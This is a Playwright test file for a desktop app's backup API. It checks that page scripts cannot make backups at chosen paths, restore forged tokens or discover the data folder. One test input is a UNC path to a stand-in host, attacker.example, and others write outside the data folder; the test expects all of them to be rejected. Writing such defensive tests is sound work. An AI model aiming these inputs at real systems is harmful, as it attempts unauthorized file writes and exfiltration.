import { readdir } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { expect, test } from './fixtures';

/** What a script in the page can try: name files itself, and ask where the data lives. */
test('script in the page cannot name a file or learn the data folder', async ({ app }) => {
  const { page } = app;
  await expect(page.getByRole('link', { name: 'Settings' })).toBeVisible();
  const root = dirname(app.dataDir);
  const dataFiles = await readdir(app.dataDir, { recursive: true });
  const outcome = await page.evaluate(
    async ({ root, practice }) => {
      const codeOf = (call: () => Promise<unknown>) =>
        call().then(
          () => 'ok',
          (error: { code?: string }) => error.code ?? 'no code',
        );
      const backup = window.rapport.backup as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
      const clients = await window.rapport.clients.list();
      return {
        status: await window.rapport.app.status(),
        create: await codeOf(() => backup.create(`${root}/dropped.rapport-backup`)),
        createUnc: await codeOf(() => backup.create('\\\\attacker.example\\share\\dropped.rapport-backup')),
        inspect: await codeOf(() => backup.inspect(practice)),
        restore: await codeOf(() => backup.restore(`${root}/dropped.rapport-backup`)),
        forged: await codeOf(() => backup.restore({ token: 'A'.repeat(43) })),
        exported: await codeOf(() => backup.exportClient(clients[0]?.id ?? '00000000-0000-4000-8000-000000000000', practice)),
      };
    },
    { root, practice: join(app.dataDir, 'practice.json') },
  );
  expect(outcome.status).not.toHaveProperty('dataDir');
  expect(JSON.stringify(outcome.status)).not.toContain(root);
  expect(outcome).toMatchObject({
    create: 'INVALID_INPUT',
    createUnc: 'INVALID_INPUT',
    inspect: 'INVALID_INPUT',
    restore: 'INVALID_INPUT',
    forged: 'INVALID_INPUT',
    exported: 'INVALID_INPUT',
  });
  expect(await readdir(root)).not.toContain('dropped.rapport-backup');
  expect(await readdir(app.dataDir, { recursive: true })).toEqual(dataFiles);
});

test('a backup made from the page shows the file name, never the folder', async ({ app }) => {
  const { page } = app;
  const backupFile = join(dirname(app.dataDir), 'chosen.rapport-backup');
  await page.getByRole('link', { name: 'Settings' }).click();
  const backups = page.getByRole('main').getByRole('region', { name: 'Backups' });
  await app.queueFilePath(backupFile);
  await backups.getByRole('button', { name: 'Back up now…' }).click();
  const saved = backups.getByRole('status').filter({ hasText: 'Backup saved' });
  await expect(saved).toContainText('File: chosen.rapport-backup');
  await expect(saved).not.toContainText(dirname(app.dataDir));
  expect(await readdir(dirname(app.dataDir))).toContain('chosen.rapport-backup');
});
